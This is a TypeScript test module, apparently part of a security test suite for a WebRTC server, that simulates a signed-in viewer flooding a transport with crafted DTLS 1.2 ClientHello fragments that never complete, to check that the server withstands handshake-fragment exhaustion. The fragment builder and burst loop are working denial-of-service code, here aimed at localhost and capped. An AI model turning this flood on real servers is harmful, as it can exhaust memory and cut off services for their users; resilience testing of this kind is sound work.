/** A signed-in viewer whose handshake is never completed: endless fragments on one transport, then on the next. */

import { createSocket } from 'node:dgram';
import { randomBytes } from 'node:crypto';
import { setTimeout as delay } from 'node:timers/promises';
import { connectivityCheck } from '../../support/node-viewer.ts';
import { SignalingSocket } from '../../support/signaling-socket.ts';
import { strangersAddress, type Attack, type Counts } from '../attack.ts';

interface Given {
  token: string;
}

const BURST = 60;
const BURST_INTERVAL_MS = 10;
const MAX_FRAGMENTS = 400_000;
const FRAGMENT_BYTES = 1_000;
const BURSTS_PER_CHECK = 100;
const REFUSED_PAUSE_MS = 1_000;
const FINGERPRINT = Array.from({ length: 32 }, () => 'AB').join(':');

export const attack: Attack<Given> = {
  name: 'dtls-fragments',
  title: 'a viewer who sends fragments of a handshake that never becomes whole',
  prepare: async (stage) => ({ token: await stage.attackerToken() }),
  run: async ({ port, untilMs, given }) => {
    const counts: Counts = { transports: 0, fragments: 0, failed: 0 };
    while (Date.now() < untilMs && (counts['fragments'] ?? 0) < MAX_FRAGMENTS) {
      await flood(port, given.token, untilMs, counts).catch(() => {
        counts['failed'] = (counts['failed'] ?? 0) + 1;
      });
      await delay(REFUSED_PAUSE_MS);
    }
    return counts;
  },
};

/** Until the server closes the transport, or the time is over. */
async function flood(port: number, token: string, untilMs: number, counts: Counts): Promise<void> {
  const signaling = await SignalingSocket.open(`http://127.0.0.1:${port}`, token, {
    localAddress: strangersAddress(7, 0),
  });
  signaling.socket.on('error', () => undefined);
  const socket = createSocket('udp4');
  socket.on('error', () => undefined);
  try {
    const transport = await signaling.request('createWebRtcTransport', {});
    const rtcPort = transport.iceCandidates[0]?.port ?? 0;
    await signaling.request('connectWebRtcTransport', {
      transportId: transport.id,
      dtlsParameters: { role: 'client', fingerprints: [{ algorithm: 'sha-256', value: FINGERPRINT }] },
    });
    counts['transports'] = (counts['transports'] ?? 0) + 1;
    const isOver = (): boolean =>
      signaling.socket.readyState > 1 ||
      signaling.received.some(
        (message) => message.type === 'notification' && message.method === 'transportClosed',
      );
    for (let burst = 0; Date.now() < untilMs && !isOver(); burst++) {
      if ((counts['fragments'] ?? 0) >= MAX_FRAGMENTS) return;
      if (burst % BURSTS_PER_CHECK === 0)
        socket.send(connectivityCheck(transport.iceParameters), rtcPort, '127.0.0.1');
      for (let i = 0; i < BURST; i++) socket.send(fragment(burst * BURST + i), rtcPort, '127.0.0.1');
      counts['fragments'] = (counts['fragments'] ?? 0) + BURST;
      await delay(BURST_INTERVAL_MS);
    }
  } finally {
    socket.close();
    signaling.socket.terminate();
  }
}

/**
 * One DTLS 1.2 record with one fragment of a ClientHello (RFC 6347 section 4.1 and 4.2.2).
 *
 *     type u8 = 22 | version fe fd | epoch u16 | sequence u48 | length u16
 *     msg_type u8 | length u24 | message_seq u16 | fragment_offset u24 | fragment_length u24 | bytes
 */
function fragment(number: number): Buffer {
  const record = Buffer.alloc(25 + FRAGMENT_BYTES);
  record.set([22, 0xfe, 0xfd]);
  record.writeUIntBE(number, 5, 6);
  record.writeUInt16BE(12 + FRAGMENT_BYTES, 11);
  record[13] = 1;
  record.writeUIntBE(0xff_ffff, 14, 3);
  record.writeUInt16BE(number & 0xffff, 17);
  record.writeUIntBE(0, 19, 3);
  record.writeUIntBE(FRAGMENT_BYTES, 22, 3);
  record.set(randomBytes(16), 25);
  return record;
}
